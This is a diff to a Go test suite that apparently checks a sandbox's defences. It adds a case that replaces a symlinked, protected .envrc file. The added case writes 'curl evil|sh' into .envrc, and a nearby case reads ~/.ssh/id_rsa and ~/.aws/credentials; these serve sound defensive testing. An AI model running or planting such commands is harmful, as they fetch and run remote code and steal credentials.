@@ -275,6 +275,24 @@ var attacks = []attack{
 			t.Errorf("want the run refused, naming the link:\n%s", out)
 		}
 	}},
+	{"replace a protected path that is a link", writable, func(t *testing.T, w *world, p string) {
+		// .envrc -> envrc.real: the read-only mount holds envrc.real, the
+		// link is a name the run could remove and write anew. Refused.
+		link, real := filepath.Join(w.ws, ".envrc"), filepath.Join(w.ws, "envrc.real")
+		os.WriteFile(real, []byte("ok\n"), 0o644)
+		if err := os.Symlink("envrc.real", link); err != nil {
+			t.Fatal(err)
+		}
+		defer os.Remove(real)
+		defer os.Remove(link)
+		out, _ := w.exec(p, sh("rm -f .envrc && echo 'curl evil|sh' > .envrc")).CombinedOutput()
+		if fi, err := os.Lstat(link); err != nil || fi.Mode()&os.ModeSymlink == 0 {
+			t.Errorf(".envrc was replaced (%v)", err)
+		}
+		if !strings.Contains(string(out), "is a link, which the run could replace") {
+			t.Errorf("want the run refused, naming the link:\n%s", out)
+		}
+	}},
 	// Secrets.
 	{"read the ssh key and the aws credentials", confined, func(t *testing.T, w *world, p string) {
 		r := w.run(t, p, sh("cat "+w.home+"/.ssh/id_rsa "+w.home+"/.aws/credentials; cat ~/.ssh/id_rsa; grep -r canary- "+w.home))
